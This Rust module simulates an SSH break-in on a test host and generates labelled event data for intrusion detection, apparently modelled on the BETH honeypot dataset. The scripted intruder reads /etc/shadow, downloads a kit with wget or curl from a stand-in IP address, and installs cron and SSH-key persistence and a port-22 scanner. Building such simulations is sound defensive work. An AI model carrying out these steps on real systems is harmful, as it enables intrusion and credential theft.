//! The staged break-in on the test host.
//!
//! A stranger guesses passwords and logs in as a new user. The intruder explores the host, downloads and
//! unpacks a kit, installs a cron job and a key to keep access, and starts a scanner. The hundred threads
//! of the scanner connect to other hosts until the recording ends. Meanwhile strangers go on guessing
//! passwords, and at times the intruder logs in again. BETH's honeypot recorded a break-in of this kind
//! (Highnam et al. 2021).
//!
//! Events of the intruder's shell and its children are `evil` and `sus`. Events of sshd during the
//! intruder's logins and guesses, and of the service manager and the greeting that a login starts, are
//! `sus` only.

use super::call::{ACCESS_DENIED, ALREADY, IN_PROGRESS, NOT_PERMITTED, REFUSED};
use super::files::{APPEND, CREATE, READ};
use super::host::{Counts, Host};
use super::names;
use super::process::Task;
use super::remote::{Account, LoginLabels, Session, Visitor};
use super::services::Services;
use super::text::Label;
use super::tools::{self, Tool};

// Shares of the events of the test split, per mille. BETH has 838 evil and 69 only suspicious.
const EVIL_SHARE: u64 = 830;
const SUSPICIOUS_SHARE: u64 = 70;
const BENIGN_SHARE: u64 = 1_000 - EVIL_SHARE - SUSPICIOUS_SHARE;
/// The share of the benign events after which the break-in begins, per mille.
const QUIET_SHARE: u64 = 300;

/// The number of events below which the intruder is already logged in when the recording begins. A login takes
/// about 800 events.
const LEAST_FOR_LOGIN: u64 = 5_000;

const INTRUDER: Account = Account {
    user: 1_001,
    home: "/home/backup",
};
const LABELS: LoginLabels = LoginLabels {
    monitor: Label::Suspicious,
    manager: Label::Suspicious,
    shell: Label::Evil,
};
/// The file of password hashes, which only root may read.
const SHADOW: &str = "/etc/shadow";
/// The folder in which the intruder unpacks the kit.
const KIT: &str = "/tmp/.X19-unix";
const ARCHIVE: &str = "kit.tar.gz";
const KIT_FILES: [&str; 8] = [
    "run",
    "sweepd",
    "targets",
    "stop",
    "lib/libc.so.6",
    "lib/libm.so.6",
    "init",
    "upd",
];
/// The number of generated names that the intruder's cron job looks up at times, until one exists.
const GENERATED_NAMES: u32 = 25;
/// The number of threads of the scanner.
const THREADS: usize = 100;
/// The largest number of calls that the scanner makes in one step.
const BURST: u64 = 4_000;
/// The time that the scanner runs in a recording of a time, in microseconds.
const SCAN_MICROS: u64 = 7_200_000_000;
/// The mean time between the intruder's visits once the scanner runs, in a recording of a time, in microseconds.
const VISIT_MICROS: u64 = 60_000_000;

/// The commands with which the intruder explores the host, in this order, each with its argument.
static EXPLORATION: [(&Tool, &str); 19] = [
    (&tools::W, "-h"),
    (&tools::UNAME, "-a"),
    (&tools::CAT, "/proc/cpuinfo"),
    (&tools::LS, "-lah"),
    (&tools::WHOAMI, "--"),
    (&tools::FREE, "-m"),
    (&tools::LSCPU, "-J"),
    (&tools::PS, "x"),
    (&tools::GREP, "/proc/meminfo"),
    (&tools::ID, "-u"),
    (&tools::CRONTAB, "-l"),
    (&tools::WHO, "-a"),
    (&tools::CAT, "/etc/passwd"),
    (&tools::PASSWD, "backup"),
    (&tools::DF, "-h"),
    (&tools::TOP, "-bn1"),
    (&tools::HEAD, "/etc/os-release"),
    (&tools::CAT, SHADOW),
    (&tools::LS, "/var/tmp"),
];

/// A stage of the break-in.
#[derive(Clone, Copy)]
enum Stage {
    /// The break-in has not begun. The session is the one from before the recording, if there is one.
    Waiting(Option<Session>),
    /// A visitor tries passwords, and `left` more visitors come after this one.
    Guessing {
        visitor: Visitor,
        left: u32,
    },
    /// The intruder explores the host with command number `next`.
    Exploring {
        session: Session,
        next: usize,
    },
    Downloading(Session),
    Unpacking(Session),
    /// The intruder installs a cron job and a key.
    Persisting(Session),
    /// The intruder starts the scanner.
    Launching(Session),
    /// The intruder is logged out.
    Away,
    /// The intruder is logged in again, for `left` more commands.
    Visiting {
        session: Session,
        left: u32,
    },
}

/// The state of the break-in between two steps.
pub(super) struct Campaign {
    stage: Stage,
    /// The time when the stage goes on, in microseconds since boot. The scanner does not wait for it.
    due: u64,
    scanner: Option<Scanner>,
}

impl Campaign {
    /// Creates a break-in that has not begun. If the recording is too short to hold a login, the intruder is
    /// already logged in.
    pub(super) fn new(host: &mut Host<'_, '_>, services: &Services) -> Self {
        let session =
            (host.share() < LEAST_FOR_LOGIN).then(|| host.boot_session(services, INTRUDER, LABELS));
        Self {
            stage: Stage::Waiting(session),
            due: 0,
            scanner: None,
        }
    }

    /// Returns true once the intruder's cron job is installed and the scanner is running.
    pub(super) fn persists(&self) -> bool {
        self.scanner.is_some()
    }

    /// Runs one step of the break-in. Returns the time until the next step, in microseconds.
    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, services: &Services) -> u64 {
        if let Some(scanner) = &mut self.scanner {
            scanner.keep_up(host);
        }
        if host.now() >= self.due {
            self.stage = self.next_stage(host, services);
            let is_slow = host.is_timed() && self.scanner.is_some();
            self.due = host.now()
                + host
                    .random
                    .around(if is_slow { VISIT_MICROS } else { 500_000 });
        }
        host.random.around(250_000)
    }

    /// Runs the current stage and returns the next one.
    fn next_stage(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Stage {
        match self.stage {
            Stage::Waiting(Some(session)) => {
                // Even the shortest recording must have some benign events.
                host.systemd_round(services);
                Stage::Exploring { session, next: 1 }
            }
            Stage::Waiting(None) if too_early(host) => self.stage,
            Stage::Waiting(None) => guess(host, services, (host.share() / 15_000).min(5) as u32),
            Stage::Guessing { visitor, left } => {
                self.continue_guessing(host, services, visitor, left)
            }
            Stage::Exploring { session, next } => explore(host, session, next),
            Stage::Downloading(session) => download(host, session),
            Stage::Unpacking(session) => unpack(host, session),
            Stage::Persisting(session) => persist(host, session),
            Stage::Launching(session) => {
                self.scanner = Some(Scanner::launch(host, session));
                host.log_out(services, session, INTRUDER);
                Stage::Away
            }
            Stage::Away if per_mille(host.counts().suspicious, host) >= SUSPICIOUS_SHARE => {
                Stage::Away
            }
            Stage::Away if host.random.one_in(4) => {
                let session = host.log_in(services, INTRUDER, LABELS);
                Stage::Visiting {
                    session,
                    left: host.random.between(2, 7),
                }
            }
            Stage::Away => guess(host, services, 0),
            Stage::Visiting { session, left } => visit(host, services, session, left),
        }
    }

    /// Lets a visitor try one more password. After the last visitor, the intruder logs in for the first time
    /// or stays away.
    fn continue_guessing(
        &self,
        host: &mut Host<'_, '_>,
        services: &Services,
        visitor: Visitor,
        left: u32,
    ) -> Stage {
        match host.wrong_password(services, visitor) {
            Some(visitor) => Stage::Guessing { visitor, left },
            None if left > 0 => guess(host, services, left - 1),
            None if self.scanner.is_some() => Stage::Away,
            None => Stage::Exploring {
                session: host.log_in(services, INTRUDER, LABELS),
                next: 0,
            },
        }
    }
}

/// Returns true while there are too few benign events before the break-in. In a recording of a time, the agenda says when
/// it begins.
fn too_early(host: &Host<'_, '_>) -> bool {
    !host.is_timed() && per_mille(host.counts().benign, host) < BENIGN_SHARE * QUIET_SHARE / 1_000
}

/// Returns the share of `part` events in the events of the host, per mille.
fn per_mille(part: u64, host: &Host<'_, '_>) -> u64 {
    part * 1_000 / host.share()
}

/// Lets a visitor connect who guesses passwords, with `left` more visitors to come.
fn guess(host: &mut Host<'_, '_>, services: &Services, left: u32) -> Stage {
    Stage::Guessing {
        visitor: host.visitor(services, Label::Suspicious),
        left,
    }
}

/// Runs exploration command number `next`. A longer recording has more of these commands.
fn explore(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage {
    let commands = (host.share() as usize / 1_000).clamp(3, EXPLORATION.len());
    let Some(&(tool, argument)) = EXPLORATION[..commands].get(next) else {
        return Stage::Downloading(session);
    };
    if next % 5 == 4 {
        let tools: [(&Tool, &[&str]); 3] = [
            (tool, &[argument]),
            (&tools::GREP, &["-v", "root"]),
            (&tools::WC, &["-l"]),
        ];
        host.pipeline(session.shell, &tools);
    } else {
        host.command_with(session.shell, tool, &[argument], |host, task| {
            if argument == SHADOW {
                host.open_fails(task, SHADOW, READ, ACCESS_DENIED);
            } else if argument.starts_with("/proc/") || argument.starts_with("/etc/") {
                host.read(task, argument);
            }
        });
    }
    Stage::Exploring {
        session,
        next: next + 1,
    }
}

/// Downloads the kit.
fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command(session.shell, &tools::MKDIR, &["-p", KIT]);
    let tool = host.random.pick(&[&tools::WGET, &tools::CURL]);
    host.command_with(
        session.shell,
        tool,
        &["http://198.51.100.77/kit.tar.gz"],
        |host, task| {
            host.resolve_name(task, names::KIT_HOST);
            let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
            let server = host.internet([198, 51, 100, 77], 80);
            host.connect(task, fd, &server, 0);
            host.write(task, &format!("{KIT}/{ARCHIVE}"), CREATE);
            host.close(task, fd);
        },
    );
    Stage::Unpacking(session)
}

/// Unpacks the kit.
fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
    let shell = session.shell;
    host.command_with(shell, &tools::TAR, &["xzf", ARCHIVE], |host, task| {
        host.read(task, &format!("{KIT}/{ARCHIVE}"));
        host.run(task, &tools::GZIP, &["-d"]);
        for file in KIT_FILES {
            let path = format!("{KIT}/{file}");
            host.unlink_missing(task, &path);
            host.write_private(task, &path);
            host.lchown(task, &path, INTRUDER.user);
        }
    });
    host.command_with(shell, &tools::RM, &["-f", ARCHIVE], |host, task| {
        host.unlinkat(task, KIT, ARCHIVE);
    });
    host.command(shell, &tools::MV, &["init", ".init"]);
    host.command(shell, &tools::CHMOD, &["+x", "run", "sweepd"]);
    Stage::Persisting(session)
}

/// Installs a cron job and a key, with which the intruder keeps access.
fn persist(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command_with(session.shell, &tools::CRONTAB, &["upd"], |host, task| {
        host.read(task, &format!("{KIT}/upd"));
        host.write_private(task, "/var/spool/cron/crontabs/tmp.q8RzZk");
        host.stat(task, "/var/spool/cron/crontabs", true);
    });
    let keys = format!("{}/.ssh", INTRUDER.home);
    host.command_with(session.shell, &tools::RM, &["-rf", ".ssh"], |host, task| {
        host.unlinkat(task, &keys, "authorized_keys");
    });
    host.command(session.shell, &tools::MKDIR, &[".ssh"]);
    host.write(session.shell, &format!("{keys}/authorized_keys"), APPEND);
    host.command(session.shell, &tools::CHMOD, &["-R", "go=", ".ssh"]);
    Stage::Launching(session)
}

/// Runs one command of an intruder who has logged in again, or logs out after the last.
fn visit(host: &mut Host<'_, '_>, services: &Services, session: Session, left: u32) -> Stage {
    if left == 0 {
        host.log_out(services, session, INTRUDER);
        return Stage::Away;
    }
    let (tool, argument) = host.random.pick(&EXPLORATION);
    host.command(session.shell, tool, &[argument]);
    Stage::Visiting {
        session,
        left: left - 1,
    }
}

/// Runs the intruder's cron job, which the cron of the host starts.
pub(super) fn intruder_cron_job(host: &mut Host<'_, '_>, services: &Services) {
    let (child, job) = host.cron_child(services, "/var/spool/cron/crontabs/backup", INTRUDER.user);
    host.tasks.set_label(job, Label::Evil);
    host.become_script(job, |host, shell| {
        host.read(shell, &format!("{KIT}/upd"));
        host.pipeline(shell, &[(&tools::PS, &["x"]), (&tools::GREP, &["sweepd"])]);
        if host.resolver.random.one_in(8) {
            host.generated_names(shell, GENERATED_NAMES);
        }
    });
    host.exit(child);
}

/// A connection attempt that has no result yet: its socket and address.
type Attempt = (i64, [u8; 4]);

/// The scanner: one process with many threads. Each thread makes one connection attempt at a time.
struct Scanner {
    /// The threads, each with its connection attempt.
    attempts: Vec<(Task, Option<Attempt>)>,
    /// The numbers of events of the host when the scanner was started.
    launched_at: Counts,
    /// The time when it was started, in microseconds since boot.
    launched: u64,
}

impl Scanner {
    /// Starts the scanner from the intruder's shell through a script. The script first tries to kill other
    /// processes, which it takes for rivals.
    fn launch(host: &mut Host<'_, '_>, session: Session) -> Self {
        host.search_path(session.shell, &tools::NOHUP);
        let script = host.fork(session.shell);
        host.become_tool(script, &tools::NOHUP, &["./run"]);
        host.exec(script, "/bin/bash", &["bash", "./run"]);
        host.load(script, &["libtinfo", "libdl", "libc"]);
        for rival in host.tasks.ids().into_iter().rev().take(6) {
            host.kill(script, rival, 9, NOT_PERMITTED);
        }
        host.command(script, &tools::SLEEP, &["1"]);
        let scanner = host.fork(script);
        host.exec(
            scanner,
            &format!("{KIT}/sweepd"),
            &["./sweepd", "-t", "100", "-p", "22"],
        );
        host.load(scanner, &["libpthread", "libc"]);
        host.read(scanner, &format!("{KIT}/targets"));
        let mut start = |_| {
            let thread = host.start_thread(scanner);
            host.set_name(thread, "sweepd");
            (thread, None)
        };
        let attempts = (0..THREADS).map(&mut start).collect();
        host.exit(script);
        Self {
            attempts,
            launched_at: host.counts(),
            launched: host.now(),
        }
    }

    /// Scans until the evil events have reached the same fraction of their share as the benign events have of
    /// theirs, or as the time has of that of a scan.
    fn keep_up(&mut self, host: &mut Host<'_, '_>) {
        let (counts, then) = (host.counts(), self.launched_at);
        let evil_goal = (host.share() * EVIL_SHARE / 1_000).saturating_sub(then.evil);
        let (due, least) = if host.is_timed() {
            let passed = (host.now() - self.launched).min(SCAN_MICROS);
            (then.evil + evil_goal * passed / SCAN_MICROS, 0)
        } else {
            let benign_goal = (host.share() * BENIGN_SHARE / 1_000)
                .saturating_sub(then.benign)
                .max(1);
            let passed = counts.benign - then.benign;
            (then.evil + evil_goal * passed / benign_goal, 20)
        };
        for _ in 0..due.saturating_sub(counts.evil).clamp(least, BURST) {
            self.advance(host);
        }
    }

    /// Advances one thread: it opens a new connection, or asks for the result of the one it has.
    fn advance(&mut self, host: &mut Host<'_, '_>) {
        let place = host.random.below(self.attempts.len() as u32) as usize;
        let (thread, attempt) = &mut self.attempts[place];
        let Some((fd, address)) = *attempt else {
            let [network, last, ..] = host.random.bits().to_le_bytes();
            let address = [192, 168, network % 32, last];
            let fd = host.socket(*thread, "AF_INET", "SOCK_STREAM");
            let peer = host.internet(address, 22);
            host.connect(*thread, fd, &peer, IN_PROGRESS);
            *attempt = Some((fd, address));
            return;
        };
        let returns = match host.random.below(64) {
            0 => REFUSED,
            1 => 0,
            _ => ALREADY,
        };
        let peer = host.internet(address, 22);
        host.connect(*thread, fd, &peer, returns);
        if returns != ALREADY {
            host.close(*thread, fd);
            *attempt = None;
        }
    }
}
